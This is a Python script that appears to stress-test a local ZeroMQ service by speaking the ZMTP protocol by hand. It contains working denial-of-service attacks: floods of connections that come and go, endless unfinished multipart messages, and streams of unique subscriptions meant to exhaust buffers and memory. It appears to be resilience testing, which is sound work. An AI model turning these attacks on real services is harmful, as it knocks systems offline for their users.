"""Attackers of a stream or of the control socket: ZMTP by hand, as a client library is too polite.

    python attacks.py ATTACK ENDPOINT SECONDS COUNT

An attack ends after so many seconds, or so many connections or megabytes, whichever comes first,
and prints how many bytes were taken.
"""

import contextlib
import itertools
import socket
import struct
import sys
import time
from collections.abc import Iterator

SEND_S = 1.0  # a peer that takes nothing for so long is left
BATCH = 40  # connections at a time
MESSAGES = 4000  # of one connection, more than a socket's buffers hold
GREETING = b"\xff" + bytes(8) + b"\x7f\x03\x00" + b"NULL".ljust(20, b"\0") + bytes(32)
STATUS = b"\x81\xa3cmd\xa6status"  # msgpack of {"cmd": "status"}
MB = 1_000_000


def frame(body: bytes, *, more: bool = False) -> bytes:
    return struct.pack("BB", more, len(body)) + body


def connected(endpoint: str, kind: bytes) -> socket.socket:
    """A peer that is greeted as ZeroMQ's are, and reads nothing more."""
    scheme, _, place = endpoint.partition("://")
    local = scheme == "ipc"
    made = socket.socket(socket.AF_UNIX if local else socket.AF_INET)
    made.settimeout(SEND_S)
    named = b"\x05READY\x0bSocket-Type" + struct.pack(">I", len(kind)) + kind
    made.connect(place if local else ("127.0.0.1", int(place.rpartition(":")[2])))
    made.sendall(GREETING)
    made.recv(len(GREETING))
    made.sendall(struct.pack("BB", 4, len(named)) + named)
    made.recv(256)
    return made


def subscribe_and_leave(endpoint: str, count: int) -> Iterator[int]:
    many = b"".join(frame(b"\x01/taxeld/%d" % n) for n in range(MESSAGES))
    return come_and_go(endpoint, count, b"SUB", many)


def ask_and_leave(endpoint: str, count: int) -> Iterator[int]:
    question = frame(b"", more=True) + frame(STATUS)
    return come_and_go(endpoint, count, b"REQ", question * MESSAGES)


def come_and_go(endpoint: str, count: int, kind: bytes, data: bytes) -> Iterator[int]:
    """`count` connections that each send `data` and leave; → the bytes that were taken."""
    for _ in range(count // BATCH):
        with contextlib.suppress(OSError), contextlib.ExitStack() as held:
            for _ in range(BATCH):
                peer = held.enter_context(connected(endpoint, kind))
                peer.setblocking(False)
                yield peer.send(data)


def endless_to_stream(endpoint: str, count: int) -> Iterator[int]:
    """A message of `count` MB whose last frame never comes."""
    return stream(endpoint, count, itertools.repeat(frame(b"\x01" * 255, more=True) * 200))


def unique_subscriptions(endpoint: str, count: int) -> Iterator[int]:
    numbers = (b"\x01" + b"%d" % n * 24 for n in itertools.count())
    return stream(endpoint, count, (frame(name) for name in numbers))


def stream(endpoint: str, count: int, data: Iterator[bytes]) -> Iterator[int]:
    """Up to `count` MB of `data`; a connection that is cut is made anew."""
    sent = 0
    while sent < count * MB:
        with contextlib.suppress(OSError), connected(endpoint, b"SUB") as peer:
            while sent < count * MB:
                taken = peer.send(next(data))
                sent += taken
                yield taken
        yield 0


if __name__ == "__main__":
    name, where, seconds, most = sys.argv[1:]
    until_s, total = time.monotonic() + float(seconds), 0
    for taken in globals()[name](where, int(most)):
        total += taken
        if time.monotonic() > until_s:
            break
    print(total)
